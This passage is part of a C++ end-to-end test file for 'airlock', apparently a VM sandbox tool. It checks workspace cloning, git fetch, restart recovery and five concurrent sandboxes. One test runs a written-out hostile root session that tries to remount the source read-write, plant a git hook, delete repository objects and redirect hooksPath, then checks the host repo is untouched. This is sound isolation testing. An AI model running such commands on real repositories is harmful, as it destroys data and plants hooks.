  EXPECT_EQ(look.out, "/home/agent/workspace\nhost-commit\norigin\nsource\nv1\napp.txt\n")
      << look.err;
  // A booted guest's own name is in /etc/hosts: the guest's git daemon
  // looks it up while egress is not attached yet (through DNS that lookup
  // waited out the resolver, 10 s of the start).
  EXPECT_EQ(Airlock({"exec", "cl", "--", "getent", "-s", "files", "hosts", "cl"}).out,
            "127.0.1.1       cl\n");

  // A hostile session, as root: nothing reaches the host repo.
  auto hostile = Airlock(
      {"exec", "-u", "root", "cl", "--", "sh", "-c",
       "S=/run/sandbox/source; mount -o remount,rw $S 2>/dev/null; "
       "echo evil >> $S/src/app.txt; echo evil > $S/.git/hooks/post-checkout; "
       "git -C $S -c user.name=x -c user.email=x@x commit --allow-empty -qm evil; "
       "rm -rf $S/.git/objects $S/src; chmod 777 $S; "
       "git -C $S config core.hooksPath /tmp; true"});
  EXPECT_NE(hostile.err.find("Read-only file system"), std::string::npos) << hostile.err;
  EXPECT_EQ(TreeHash(repo), before) << "the host repo changed";

  ASSERT_EQ(Airlock({"exec", "cl", "--", "sh", "-c",
                     "echo v2 > src/app.txt && git commit -qam agent-commit"}).exit_code, 0);
  auto fetch = git("git fetch -q sandbox-cl && git log --format=%s sandbox-cl/main");
  EXPECT_EQ(fetch.out, "agent-commit\nhost-commit\n") << fetch.err;
  EXPECT_EQ(git("cat src/app.txt").out, "v1\n") << "fetch does not touch the working tree";

  ASSERT_EQ(Airlock({"stop", "cl"}).exit_code, 0);
  auto stopped = git("git fetch sandbox-cl");
  EXPECT_NE(stopped.exit_code, 0);
  EXPECT_NE(stopped.err.find("sandbox cl is stopped"), std::string::npos) << stopped.err;
  ASSERT_EQ(Airlock({"start", "cl"}).exit_code, 0);
  EXPECT_EQ(git("git fetch -q sandbox-cl && git log -1 --format=%s sandbox-cl/main").out,
            "agent-commit\n");

  // A clone cut short (vmmd or the VM killed mid-clone) leaves
  // ~/.airlock-clone saying "cloning": the next boot clones again over
  // what it finds. A workspace cloned before that file existed is kept.
  auto restart = [&] {
    ASSERT_EQ(Airlock({"stop", "cl"}).exit_code, 0);
    ASSERT_EQ(Airlock({"start", "cl"}).exit_code, 0);
  };
  auto state = [&] {
    auto r = Airlock({"exec", "cl", "--", "sh", "-c",
                      "cat ~/.airlock-clone 2>&1; ls; git log --format=%s | head -1"});
    return r.out + r.err;
  };
  EXPECT_EQ(state(), "done\nsrc\nagent-commit\n");
  ASSERT_EQ(Airlock({"exec", "cl", "--", "sh", "-c", "echo cloning > ~/.airlock-clone && "
                                                     "echo half > half-written"}).exit_code, 0);
  restart();
  EXPECT_EQ(state(), "done\nsrc\nhost-commit\n");
  ASSERT_EQ(Airlock({"exec", "cl", "--", "sh", "-c", "rm ~/.airlock-clone && "
                                                     "git commit -q --allow-empty -m kept"})
                .exit_code, 0);
  restart();
  EXPECT_EQ(state(), "cat: /home/agent/.airlock-clone: No such file or directory\nsrc\nkept\n");

  ASSERT_EQ(Airlock({"rm", "-f", "cl"}).exit_code, 0);
  EXPECT_EQ(git("git remote").out, "nearby\norigin\n");
  EXPECT_EQ(git("grep -c sandbox .git/config || true").out, "0\n");

  // A shallow host repo still gives a usable workspace; a non-repo is refused.
  std::string shallow = dir_.path() + "/shallow";
  ASSERT_EQ(RunCommand({"git", "-c", "protocol.file.allow=always", "clone", "-q", "--depth", "1",
                        "file://" + repo, shallow}).exit_code, 0);
  auto sh = Airlock({"run", "--clone", "--name", "shal", "-m", "1g", "shell", shallow, "--", "sh",
                     "-c", "git log --format=%s; cat src/app.txt"});
  EXPECT_EQ(sh.out, "host-commit\nv1\n") << sh.err;
  auto branch = Airlock({"run", "--clone", "--branch", "feature", "--name", "br", "-m", "1g",
                         "shell", repo, "--", "git", "branch", "--show-current"});
  EXPECT_EQ(branch.out, "feature\n") << branch.err;
  auto not_repo = Airlock({"create", "--clone", "--name", "norepo", "shell", dir_.path()});
  EXPECT_NE(not_repo.exit_code, 0);
  EXPECT_NE(not_repo.err.find("not inside a Git working tree"), std::string::npos) << not_repo.err;
  auto bad_branch = Airlock({"create", "--clone", "--branch", "nope", "--name", "nob", "shell", repo});
  EXPECT_NE(bad_branch.exit_code, 0);
  EXPECT_NE(bad_branch.err.find("branch \"nope\" does not exist"), std::string::npos)
      << bad_branch.err;
}

TEST_F(SandboxE2ETest, FiveSandboxesAtOnce) {
  ASSERT_EQ(Airlock({"daemon", "start"}).exit_code, 0);
  std::vector<std::thread> threads;
  std::vector<CommandResult> results(5);
  for (int i = 0; i < 5; ++i) {
    threads.emplace_back([&, i] {
      results[i] = Airlock({"run", "--name", "multi" + std::to_string(i), "-m", "768m", "--cpus",
                            "1", "shell", "--", "hostname"});
    });
  }
  for (auto& t : threads) t.join();
  for (int i = 0; i < 5; ++i) {
    EXPECT_EQ(results[i].exit_code, 0) << results[i].err;
    EXPECT_EQ(results[i].out, "multi" + std::to_string(i) + "\n");
  }
  EXPECT_EQ(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/").size(), 5u);
  ASSERT_EQ(Airlock({"rm", "-f", "--all"}).exit_code, 0);
  EXPECT_TRUE(testing::ProcessesNamed(dir_.path() + "/state/sandboxes/").empty());
}

}  // namespace
}  // namespace airlock
